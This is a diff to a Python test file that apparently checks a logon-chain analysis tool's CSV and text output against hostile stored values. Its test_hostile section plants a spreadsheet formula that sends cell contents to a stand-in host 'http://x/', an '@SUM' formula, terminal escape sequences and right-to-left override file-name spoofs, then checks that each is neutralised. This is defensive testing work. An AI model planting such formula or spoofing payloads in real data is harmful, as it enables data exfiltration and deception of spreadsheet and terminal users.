@@ -118,6 +118,13 @@ def test_contract(e):
         ad = e.run("analyze", "--format", "dot", rel).stdout
         cd = e.run("chains", "--db", db, "--format", "dot").stdout
         check(ad == cd, "%s: chains dot differs from analyze's" % s)
+        # csv: one writer, the same bytes (default and raw)
+        for extra in ([], ["--min-hops", "1"], ["--csv-raw"]):
+            ac = e.run("analyze", "--format", "csv", *extra, rel).stdout
+            cc = e.run("chains", "--db", db, "--format", "csv", *extra).stdout
+            check(ac == cc and ac.count(b"\n") > 1,
+                  "%s %s: chains csv differs from analyze's:\n%s\n%s" % (s, extra, ac[:300],
+                                                                       cc[:300]))
         ah = [dict(h, boots=None) for h in
               e.json("analyze", "--format", "json", rel).get("hosts", [])]
         ch = [dict(h, boots=None) for h in e.json("hosts", "--db", db, "--format", "json")
@@ -334,37 +341,60 @@ def test_hostile(e):
     con.execute("UPDATE hops SET account = ? WHERE id = ?", ("CONTOSO\\" + EVIL, hop[0]))
     con.execute("UPDATE events SET target_user = ? WHERE id = ?", (EVIL, hop[1]))
     con.execute("UPDATE hosts SET name = ? WHERE name = 'client1'", ("cl\x1b]0;t\x07ient1",))
+    # a host name a spreadsheet would run, and one turned around by a
+    # right-to-left override (shown as "server2exe.txt" without the escape)
+    con.execute("UPDATE hosts SET name = ? WHERE name = 'server1'",
+                ("=HYPERLINK(\"http://x/\"&A1)",))
+    con.execute("UPDATE hosts SET name = ? WHERE name = 'server2'", ("server2\u202etxt.exe",))
     con.execute("UPDATE findings SET what = ? WHERE code = 'anonymous-second-hop'",
                 ("what " + EVIL,))
     con.execute("DELETE FROM logon_summary")
     con.execute("INSERT INTO logon_summary (target_account, target_host, success, failure, "
-                "first_ticks, first_text, last_ticks, last_text) VALUES (?, 'h', 1, 0, 0, "
-                "'t', 0, 't')", ("CONTOSO\\" + EVIL,))
+                "first_ticks, first_text, last_ticks, last_text) VALUES (?, ?, 1, 0, 0, "
+                "'t', 0, 't')", ("CONTOSO\\" + EVIL, "@SUM(1)\u202e"))
     con.commit()
     con.close()
     before = digest(db)
+    # (the views; whether they show a host of the override)
     views = [
-        ["chains", "--db", db],
-        ["chains", "--db", db, "--format", "csv"],
-        ["chains", "--db", db, "--format", "dot"],
-        ["hops", "--db", db],
-        ["hops", "--db", db, "--format", "csv"],
-        ["findings", "--db", db],
-        ["hosts", "--db", db],
-        ["sessions", "--db", db, "--host", "^cl"],
-        ["summary", "--db", db],
-        ["timeline", "--db", db, "--account", "EVIL"],
-        ["sql", "--db", db, "SELECT account FROM hops WHERE account LIKE '%EVIL%'"],
+        (["chains", "--db", db], True),
+        (["chains", "--db", db, "--format", "csv"], True),
+        (["chains", "--db", db, "--format", "dot"], False),
+        (["hops", "--db", db], True),
+        (["hops", "--db", db, "--format", "csv"], True),
+        (["findings", "--db", db], True),
+        (["findings", "--db", db, "--format", "csv"], True),
+        (["hosts", "--db", db], True),
+        (["hosts", "--db", db, "--format", "csv"], True),
+        (["sessions", "--db", db, "--host", "^cl"], False),
+        (["summary", "--db", db], True),
+        (["summary", "--db", db, "--format", "csv"], True),
+        (["timeline", "--db", db, "--account", "EVIL"], False),
+        (["sql", "--db", db, "SELECT account FROM hops WHERE account LIKE '%EVIL%'"], False),
+        (["sql", "--db", db, "--format", "csv", "SELECT name FROM hosts ORDER BY id"], True),
     ]
-    for v in views:
+    for v, bidi in views:
         p = e.run(*v)
+        what = " ".join(v[:1] + v[3:])
+        check("\u202e".encode() not in p.stdout, "%s: a raw right-to-left override" % what)
+        check(not bidi or b"server2\\u202etxt.exe" in p.stdout or b"@SUM(1)\\u202e" in p.stdout,
+              "%s: the override shown as \\u202e: %r" % (what, p.stdout[:300]))
+        if "csv" in v:
+            check(b",=" not in p.stdout and b"\n=" not in p.stdout and b",@" not in p.stdout
+                  and b"\n@" not in p.stdout, "%s: a formula reaches the CSV: %r" % (what, p.stdout))
+            check(b"'=HYPERLINK(" in p.stdout or b"'@SUM(1)" in p.stdout,
+                  "%s: formula made text with a ': %r" % (what, p.stdout))
         raw = sorted({c for c in p.stdout if (c < 0x20 and c not in (0x0A,)) or c == 0x7F})
-        check(not raw, "%s: raw control bytes %s in %r" % (" ".join(v[:1] + v[3:]), raw,
-                                                           p.stdout[:300]))
-        check(b"\xc2\x9b" not in p.stdout, "%s: raw C1 CSI" % " ".join(v[:1] + v[3:]))
-        if v[0] != "hosts" and "--format" not in v:
-            check(b"\\x1b[31mEVIL" in p.stdout or v[0] == "sessions",
+        check(not raw, "%s: raw control bytes %s in %r" % (what, raw, p.stdout[:300]))
+        check(b"\xc2\x9b" not in p.stdout, "%s: raw C1 CSI" % what)
+        if v[0] not in ("hosts", "sessions") and "--format" not in v:
+            check(b"\\x1b[31mEVIL" in p.stdout,
                   "%s: the escape shown as \\x1b: %r" % (v[0], p.stdout[:400]))
+    # --csv-raw: the values as stored
+    p = e.run("sql", "--db", db, "--format", "csv", "--csv-raw", "SELECT name FROM hosts "
+              "WHERE name LIKE '=%' OR name LIKE 'server2%' ORDER BY id")
+    check(p.stdout == ('name\n"=HYPERLINK(""http://x/""&A1)"\nserver2\u202etxt.exe\n'
+                       .encode()), "sql --csv-raw: %r" % p.stdout)
     # JSON carries the string itself
     c = e.json("chains", "--db", db, "--format", "json")
     accounts = [h["account"] for ch in c.get("chains", []) for h in ch["hops"]]
